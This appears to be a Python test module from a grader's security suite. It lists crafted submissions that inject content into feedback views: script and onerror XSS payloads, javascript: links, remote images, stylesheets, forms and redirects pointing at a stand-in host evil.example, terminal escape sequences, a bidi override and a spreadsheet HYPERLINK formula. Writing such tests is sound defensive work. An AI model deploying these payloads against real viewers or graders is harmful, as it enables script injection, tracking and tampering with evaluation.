"""Submissions that aim at whoever reads the feedback: active pages, remote pictures, control characters."""

from .attack import DOUBLE, TOTAL, Attack, function

RIGHT = DOUBLE | TOTAL
BOTH = {"double": 3, "total": 5}
SCRIPT = "<script>pwned()</script><img src=x onerror=pwned()><img src='https://evil.example/seen.png'>"


def shows(name: str, mime: str, text: str) -> Attack:
    """Return an attack that puts out text of a MIME type before right answers."""
    code = f"from IPython.display import publish_display_data\npublish_display_data({{{mime!r}: {text!r}}})"
    return Attack(name, code, "first", RIGHT, BOTH)


ATTACKS = (
    shows("html", "text/html", SCRIPT),
    shows("javascript", "application/javascript", "pwned()"),
    shows("vector-picture", "image/svg+xml", f"<svg onload='pwned()'>{SCRIPT}</svg>"),
    shows(
        "markdown", "text/markdown", f"{SCRIPT}\n[go](javascript:pwned())\n![](https://evil.example/seen.png)"
    ),
    shows("formula", "text/latex", r"$\href{javascript:pwned()}{x}$" + SCRIPT),
    shows(
        "frame",
        "text/html",
        "<iframe srcdoc='<script>pwned()</script>'></iframe><iframe src='//evil.example'></iframe>",
    ),
    shows(
        "style",
        "text/html",
        "<style>@import '//evil.example/x.css'</style><p style='background:url(//evil.example)'>x</p>",
    ),
    shows(
        "form",
        "text/html",
        "<form action='//evil.example'><button formaction='javascript:pwned()'>Show</button></form>",
    ),
    shows("page-broken-open", "text/html", f"</div></body></html>--><base href='//evil.example/'>{SCRIPT}"),
    shows(
        "refresh",
        "text/html",
        "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href='//evil.example'>",
    ),
    shows("picture-that-is-none", "image/png", f"'><img src=x onerror=pwned()>{SCRIPT}"),
    shows(
        "widget",
        "application/vnd.jupyter.widget-view+json",
        '{"model_id": "</script><script>pwned()</script>"}',
    ),
    Attack(
        "stream", f"print({SCRIPT!r}, '\\x1b]0;pwned\\x07\\x1b[31m<b onclick=pwned()>')", "first", RIGHT, BOTH
    ),
    Attack(
        "result", f"class Shown:\n    def _repr_html_(self): return {SCRIPT!r}\nShown()", "first", RIGHT, BOTH
    ),
    Attack("error", f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})", "first", RIGHT, BOTH),
    Attack(
        "state-of-widgets",
        "from ipykernel.comm import Comm\n"
        f"state = {{'_model_name': {SCRIPT!r}, 'value': '</script>' + {SCRIPT!r}}}\n"
        "Comm(target_name='jupyter.widget', data={'state': state})",
        "first",
        RIGHT,
        BOTH,
    ),
    Attack("source", f"# {SCRIPT}\n'''</pre></div>{SCRIPT}'''", "first", RIGHT, BOTH),
    function("error-of-a-call", f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})"),
    function("type-of-an-answer", f"return type({SCRIPT!r}, (), {{}})()"),
    function("text-as-answer", f"return {SCRIPT!r}"),
    function("texts-as-answer", f"return {{{SCRIPT!r}: [{SCRIPT!r}]}}"),
    function("printed-in-a-call", f"print({SCRIPT!r})\nreturn 0.0"),
    function(
        "control-characters", "raise ValueError('\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\r\\nada: 5 of 5\\u202e')"
    ),
    function("spreadsheet", "raise ValueError('=HYPERLINK(\"https://evil.example\")')"),
)
